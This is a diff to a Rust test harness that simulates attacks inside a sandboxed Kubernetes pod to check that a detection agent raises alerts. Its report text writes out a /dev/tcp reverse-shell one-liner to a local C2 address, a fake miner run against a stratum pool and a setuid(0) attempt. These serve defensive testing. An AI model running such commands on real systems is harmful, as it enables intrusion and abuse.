@@ -33,12 +33,14 @@ use std::{
 use anyhow::{bail, Context as _, Result};
 use serde_json::Value;
 
-mod chain;
+pub(crate) mod agent;
+pub(crate) mod chain;
 pub(crate) mod env;
 mod response;
 
+pub(crate) use agent::*;
 use chain::*;
-use env::*;
+pub(crate) use env::*;
 
 const NS: &str = "lanner-sim";
 const NODE: &str = "lanner-sim-node";
@@ -54,18 +56,26 @@ const SA_TOKEN_MARK: &str = "lnr-sim-fake-token";
 const RBAC_NAME: &str = "lanner-sim-agent-pods";
 const IMAGE: &str = "registry.example/victim:1.0";
 
-/// Bytes the C2 listener received, and HTTP requests the health-check listener served.
-static C2_BYTES: AtomicUsize = AtomicUsize::new(0);
-static HTTP_REQUESTS: AtomicUsize = AtomicUsize::new(0);
-
-/// One alert line of `lanner run`, with the wall-clock time it was read.
-struct Seen {
-    read_ns: i128,
-    alert: Value,
-}
+const NAMES: Names = Names {
+    ns: NS,
+    node: NODE,
+    netns_pod: NETNS_POD,
+    netns_c2: NETNS_C2,
+    veth_pod: "lnr-sim-p",
+    veth_c2: "lnr-sim-c",
+    pod_ip: POD_IP,
+    c2_ip: C2_IP,
+    c2_extra_ips: &[],
+    work: WORK,
+    state: STATE,
+    rbac: RBAC_NAME,
+    pod_prefix: "victim",
+    image: IMAGE,
+    sa_token_mark: SA_TOKEN_MARK,
+};
 
 #[derive(Clone, Copy)]
-struct Expect {
+pub(crate) struct Expect {
     rule: &'static str,
     priority: &'static str,
     technique: &'static str,
@@ -141,155 +151,6 @@ pub(crate) fn parse_rfc3339(s: &str) -> Option<i128> {
     Some(secs as i128 * 1_000_000_000 + frac)
 }
 
-fn priority_rank(p: &str) -> u8 {
-    match p.to_ascii_lowercase().as_str() {
-        "emergency" => 7,
-        "alert" => 6,
-        "critical" => 5,
-        "error" => 4,
-        "warning" => 3,
-        "notice" => 2,
-        "informational" | "info" => 1,
-        _ => 0,
-    }
-}
-
-/// FNV-derived 64-hex id (as the e2e tests' `hex_id`).
-fn hex_id(seed: &str) -> String {
-    let mut h: u64 = 0xcbf29ce484222325;
-    let mut out = String::new();
-    for round in 0..4u64 {
-        for b in seed.bytes().chain(round.to_le_bytes()) {
-            h ^= b as u64;
-            h = h.wrapping_mul(0x100000001b3);
-        }
-        out.push_str(&format!("{h:016x}"));
-    }
-    out
-}
-
-fn cgroup2_root() -> Result<PathBuf> {
-    let mi = std::fs::read_to_string("/proc/self/mountinfo")?;
-    for l in mi.lines() {
-        if let Some((pre, post)) = l.split_once(" - ") {
-            if post.starts_with("cgroup2 ") {
-                return Ok(PathBuf::from(pre.split_whitespace().nth(4).context("mount point")?));
-            }
-        }
-    }
-    bail!("no cgroup2 mount in /proc/self/mountinfo")
-}
-
-fn run_quiet(prog: &str, args: &[&str]) -> Result<String> {
-    let out = Command::new(prog).args(args).stdin(Stdio::null()).output().with_context(|| format!("spawn {prog}"))?;
-    if !out.status.success() {
-        bail!("{prog} {}: {}", args.join(" "), String::from_utf8_lossy(&out.stderr).trim());
-    }
-    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
-}
-
-// ------------------------------------------------------------------ agent
-
-struct Agent {
-    child: Child,
-    alerts: Arc<Mutex<Vec<Seen>>>,
-    logs: mpsc::Receiver<String>,
-    seen_logs: Vec<String>,
-}
-
-impl Agent {
-    fn start(kube: &Kube, extra: &[String]) -> Result<Agent> {
-        let mut cmd = Command::new(crate::lanner_bin());
-        cmd.args(["run", "--node-name", NODE])
-            .args(extra)
-            .env("KUBECONFIG", &kube.agent)
-            .env("LANNER_LOG", "info")
-            .env_remove("LANNER_LOG_JSON")
-            .stdin(Stdio::null())
-            .stdout(Stdio::piped())
-            .stderr(Stdio::piped());
-        eprintln!("xtask: {cmd:?}");
-        let mut child = cmd.spawn().context("spawn lanner (build it: cargo build --release -p lanner)")?;
-        let alerts = Arc::new(Mutex::new(Vec::new()));
-        let out = child.stdout.take().expect("stdout");
-        let a2 = alerts.clone();
-        std::thread::spawn(move || {
-            for line in BufReader::new(out).lines() {
-                let Ok(line) = line else { break };
-                let read_ns = now_ns();
-                if let Ok(v) = serde_json::from_str::<Value>(&line) {
-                    if v.get("rule").is_some() {
-                        a2.lock().expect("alerts").push(Seen { read_ns, alert: v });
-                    }
-                }
-            }
-        });
-        let err = child.stderr.take().expect("stderr");
-        let (tx, logs) = mpsc::channel();
-        std::thread::spawn(move || {
-            for line in BufReader::new(err).lines() {
-                let Ok(line) = line else { break };
-                if tx.send(line).is_err() {
-                    break;
-                }
-            }
-        });
-        Ok(Agent { child, alerts, logs, seen_logs: Vec::new() })
-    }
-
-    fn wait_log(&mut self, needle: &str, timeout: Duration) -> Result<String> {
-        if let Some(l) = self.seen_logs.iter().find(|l| l.contains(needle)) {
-            return Ok(l.clone());
-        }
-        let deadline = Instant::now() + timeout;
-        while Instant::now() < deadline {
-            match self.logs.recv_timeout(Duration::from_millis(200)) {
-                Ok(l) => {
-                    self.seen_logs.push(l.clone());
-                    if l.contains(needle) {
-                        return Ok(l);
-                    }
-                }
-                Err(mpsc::RecvTimeoutError::Timeout) => {}
-                Err(mpsc::RecvTimeoutError::Disconnected) => {
-                    bail!("lanner exited before logging {needle:?}:\n{}", self.seen_logs.join("\n"))
-                }
-            }
-        }
-        bail!("no {needle:?} on lanner's stderr within {timeout:?}:\n{}", self.seen_logs.join("\n"))
-    }
-
-    fn mark(&self) -> usize {
-        self.alerts.lock().expect("alerts").len()
-    }
-
-    fn stop(mut self) {
-        std::thread::sleep(Duration::from_millis(300));
-        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
-        let deadline = Instant::now() + Duration::from_secs(10);
-        while Instant::now() < deadline {
-            if let Ok(Some(_)) = self.child.try_wait() {
-                return;
-            }
-            std::thread::sleep(Duration::from_millis(100));
-        }
-        let _ = self.child.kill();
-        let _ = self.child.wait();
-    }
-}
-
-fn field<'a>(a: &'a Value, k: &str) -> &'a str {
-    a.get("output_fields").and_then(|o| o.get(k)).and_then(Value::as_str).unwrap_or("")
-}
-
-fn is_pod_alert(a: &Value, pod: &Pod) -> bool {
-    field(a, "k8s.pod.name") == pod.name || field(a, "container.id") == &pod.container_id[..12]
-}
-
-fn has_tag(a: &Value, tag: &str) -> bool {
-    a.get("tags").and_then(Value::as_array).map(|t| t.iter().any(|x| x.as_str() == Some(tag))).unwrap_or(false)
-}
-
 fn print_table(rows: &[Row]) -> String {
     let mut s = String::from("| step | technique | rule | detected | latency ms |\n|---|---|---|---|---|\n");
     for r in rows {
@@ -309,13 +170,13 @@ pub fn run() -> Result<()> {
         crate::sh(crate::cargo().args(["build", "--release", "-p", "lanner"]))?;
     }
     let (kube, started_kube) = Kube::up()?;
-    cleanup_host();
-    kube.delete_sim_pods();
+    cleanup_host(&NAMES, &[CRON_FILE]);
+    kube.delete_sim_pods(&NAMES);
     let r = simulate(&kube);
     // Clean up, whatever happened.
-    cleanup_host();
-    kube.delete_sim_pods();
-    kube.delete_rbac();
+    cleanup_host(&NAMES, &[CRON_FILE]);
+    kube.delete_sim_pods(&NAMES);
+    kube.delete_rbac(&NAMES);
     if started_kube && std::env::var_os("LANNER_KEEP_INFRA").is_none() {
         let _ = crate::sh(Command::new("bash").args(["xtask/kube/kube.sh", "down"]));
     }
@@ -324,68 +185,16 @@ pub fn run() -> Result<()> {
 
 fn simulate(kube: &Kube) -> Result<()> {
     let mut response_skip_reason: Option<String> = None;
-    // --- Kubernetes objects.
-    kube.apply(&format!(r#"{{"apiVersion":"v1","kind":"Namespace","metadata":{{"name":"{NS}"}}}}"#))?;
-    kube.apply(&format!(
-        r#"{{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{{"name":"{RBAC_NAME}"}},
-           "rules":[{{"apiGroups":[""],"resources":["pods"],"verbs":["get","list","watch"]}}]}}"#
-    ))?;
-    kube.apply(&format!(
-        r#"{{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{{"name":"{RBAC_NAME}"}},
-           "roleRef":{{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"{RBAC_NAME}"}},
-           "subjects":[{{"kind":"ServiceAccount","name":"lanner-agent","namespace":"lanner"}}]}}"#
-    ))?;
-    let n = now_ns() / 1_000_000_000 % 100_000;
-    let pod_name = format!("victim-{n}");
-    let pod_doc = serde_json::json!({
-        "apiVersion": "v1", "kind": "Pod",
-        "metadata": {"name": pod_name, "namespace": NS, "labels": {"app": "victim", "lanner.io/sim": "true"}},
-        "spec": {"nodeName": NODE, "containers": [{"name": "app", "image": IMAGE}]}
-    });
-    let uid = kube.kubectl(&["create", "-o", "jsonpath={.metadata.uid}", "-f", "-"], Some(&pod_doc.to_string()))?;
-    let uid = uid.trim().to_string();
-    let container_id = hex_id(&format!("lanner-sim/{uid}"));
-    let patch = serde_json::json!({"status": {"phase": "Running", "podIP": POD_IP, "containerStatuses": [{
-        "name": "app", "image": IMAGE, "imageID": "", "ready": true, "restartCount": 0,
-        "containerID": format!("containerd://{container_id}"), "state": {"running": {}}
-    }]}});
-    kube.patch_status(&pod_name, &patch.to_string())?;
-    eprintln!("xtask: pod {NS}/{pod_name} uid {uid} container {}", &container_id[..12]);
-
-    // --- Host side: cgroup, network namespaces, C2 host, files.
-    let root = cgroup2_root()?;
-    let parts = [
-        "kubepods.slice".to_string(),
-        "kubepods-besteffort.slice".to_string(),
-        format!("kubepods-besteffort-pod{}.slice", uid.replace('-', "_")),
-        format!("cri-containerd-{container_id}.scope"),
-    ];
-    let mut dir = root;
-    let mut created = String::new();
-    for part in parts {
-        dir = dir.join(part);
-        if !dir.exists() {
-            std::fs::create_dir(&dir).with_context(|| format!("mkdir {}", dir.display()))?;
-            created.push_str(&format!("{}\n", dir.display()));
-            std::fs::write(STATE, &created)?;
-        }
-    }
-    setup_netns()?;
-    start_c2()?;
+    // --- Kubernetes objects, the pod's cgroup and network namespaces, the C2 host, files.
+    apply_base_objects(kube, &NAMES)?;
+    setup_netns(&NAMES)?;
+    let pod = create_pod(kube, &NAMES)?;
+    let pod_name = pod.name.clone();
+    start_c2(&NAMES, &[4444], &[8080])?;
     std::fs::create_dir_all(Path::new(WORK).join("home/.ssh"))?;
     std::fs::copy("/bin/true", Path::new(WORK).join("xmrig"))?;
     std::fs::create_dir_all("/etc/cron.d")?;
-    let tok = Path::new(SA_DIR).join("token");
-    if !tok.exists() {
-        std::fs::create_dir_all(SA_DIR)?;
-        std::fs::write(&tok, format!("{SA_TOKEN_MARK}\n"))?;
-    }
-    let pod = Pod {
-        name: pod_name.clone(),
-        container_id: container_id.clone(),
-        procs: CString::new(dir.join("cgroup.procs").as_os_str().as_encoded_bytes())?,
-        netns: File::open(Path::new("/run/netns").join(NETNS_POD))?,
-    };
+    ensure_sa_token(&NAMES)?;
 
     // --- The triage worker, when the binary has one and the agent can feed it.
     let mut triage = match response::start(kube)? {
@@ -403,7 +212,7 @@ fn simulate(kube: &Kube) -> Result<()> {
     };
 
     // --- The agent.
-    let mut agent = Agent::start(kube, &extra)?;
+    let mut agent = Agent::start(kube, NODE, &extra)?;
     let r = (|| -> Result<()> {
         agent.wait_log("lanner ready", Duration::from_secs(90))?;
         let synced = agent.wait_log("pod cache synced", Duration::from_secs(60))?;
@@ -501,7 +310,7 @@ fn play(
     // --- Benign phase: nothing above Notice for this pod.
     std::thread::sleep(Duration::from_millis(1000));
     let mark = agent.mark();
-    benign(pod)?;
+    benign(pod, C2_IP)?;
     std::thread::sleep(Duration::from_secs(3));
     let _ = main.kill();
     let _ = main.wait();
@@ -545,7 +354,7 @@ fn play(
         HTTP_REQUESTS.load(Ordering::SeqCst)
     ));
     summary.push_str(&format!(
-        "Benign phase (package-like file activity, 3 health checks, a compile): {benign_total} alert(s) for the pod, {} above Notice{}.\n\n",
+        "Benign phase (package-like file activity, 3 health checks, a `make` build and test run): {benign_total} alert(s) for the pod, {} above Notice{}.\n\n",
         noisy.len(),
         if noisy.is_empty() { String::new() } else { format!(": {}", noisy.join("; ")) }
     ));
@@ -589,8 +398,8 @@ fn play(
          `bash -c 'exec 3<>/dev/tcp/10.231.77.1/4444; echo hi >&3'`; `/bin/true` copied to `<tmp>/xmrig` and run with\n\
          `-o stratum+tcp://pool.example:3333`; `python3 -c 'import os; os.setuid(0)'` as uid 1000. The reverse shell's\n\
          target is private (10/8), so `Shell opened network connection` (public addresses only) is not expected.\n\
-         Benign phase: `tar`/`cp` of a dpkg-like tree in a temp dir, `curl` health checks to 10.231.77.1:8080, `cc` of a\n\
-         hello world and its run.\n\n\
+         Benign phase: `tar`/`cp` of a dpkg-like tree in a temp dir, `curl` health checks to 10.231.77.1:8080, `make` building a\n\
+         hello world with `cc` and running it (`make check`).\n\n\
          Response phase (when the binary has `lanner triage` and `lanner run --triage-addr`): a worker on a unix socket in\n\
          the temp dir (default policy, no LLM, the `lanner-triage` service account and `agent/triage-data/rbac.yaml`),\n\
          the agent pointed at it; the run then requires the pod to be quarantined (label `lanner.io/quarantine=true` seen\n\
